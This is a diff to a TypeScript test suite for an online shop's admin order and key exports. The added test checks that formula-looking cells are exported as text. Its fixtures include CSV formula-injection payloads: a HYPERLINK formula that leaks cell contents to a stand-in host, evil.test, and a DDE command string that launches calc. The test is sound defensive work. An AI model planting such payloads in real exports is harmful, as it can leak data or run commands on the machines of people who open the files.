@@ -13,15 +13,16 @@ import { loader as ordersCsv } from "~/routes/admin.orders-export";
 import { action as ordersApiAction, loader as ordersApi } from "~/routes/api/admin.orders";
 import { action as stockApiAction, loader as stockApi } from "~/routes/api/admin.stock";
 import { outbox } from "~/services/mail/mailer.server";
+import { signOrder, type Order } from "~/services/payments/orders.server";
 import { deliveredText } from "~/services/payments/delivery.server";
 import { computeBonus, listPurchases } from "~/services/payments/purchases.server";
 import { resetSecretCache } from "~/services/payments/secrets.server";
 import { stockIdFor } from "~/services/stock/stock-keys.server";
 import { stockLevels } from "~/services/stock/stock-levels.server";
-import { importKeys, revokeKeys } from "~/services/stock/stock-writes.server";
+import { exportSoldKeys, importKeys, revokeKeys } from "~/services/stock/stock-writes.server";
 import { testDatabases } from "../support/databases";
 import { jarOf, makeActor, type Actor } from "../support/live-server";
-import { notifyPayment } from "../support/payments";
+import { notifyOrder, notifyPayment } from "../support/payments";
 import { callRoute } from "../support/route-calls";
 import { apiCaller, expectPermissionMatrix, makeApiTokens } from "../support/owner-api";
 import { useSeededDatabase } from "../support/seeded";
@@ -145,6 +146,30 @@ describe.each(testDatabases({ both: true }))("orders on $name", (database) => {
       })
     ).json();
     expect(again.notes).toMatchObject([{ body: "Asked twice for the key", author: owner.user.login }]);
+  });
+
+  it("exports formula-looking cells as text: a wallet login, an e-mail and a sold key", async () => {
+    const login = '=HYPERLINK("http://evil.test/?leak="&J3&J4,"Steam login")';
+    const email = "=2+5@evil.test";
+    const order: Order = { kind: "wallet", login, email, amountMinor: 50_000, currency: 0, userId: null, lang: "ru" };
+    const invoiceId = `ORD-${tag()}`;
+    expect(await notifyOrder(order, await signOrder(order), invoiceId, { email })).toBe(200);
+    const csv = await callRoute(ordersCsv as never, `/en/admin/orders.csv?invoice=${invoiceId}`, {
+      jar: jarOf(owner),
+    });
+    const [, row] = (await csv.text()).trim().split("\r\n");
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.test/?leak=""&J3&J4,""Steam login"")",`);
+    expect(row).toContain(",'=2+5@evil.test,");
+    expect(row).not.toMatch(/,=/);
+
+    // A key imported with a leading "=" is sold as it is, and exported as text.
+    await revokeKeys({ actor: owner.user, via: "console" }, stockId, "all");
+    const hostileKey = `=cmd|'/C calc'!A0-${tag()}`;
+    await importKeys({ actor: owner.user, via: "console" }, stockId, [hostileKey]);
+    const purchase = await buy("@buyer.example");
+    expect(await deliveredText(purchase)).toBe(hostileKey);
+    const sold = (await exportSoldKeys({ actor: owner.user, via: "console" }, stockId)).split("\r\n");
+    expect(sold.find((line) => line.startsWith(`'${hostileKey},`))).toMatch(/,'@buyer\.example$/);
   });
 
   it("refunds with the key kept out of stock or put back, serves a waiting buyer with it, and the bonus follows", async () => {
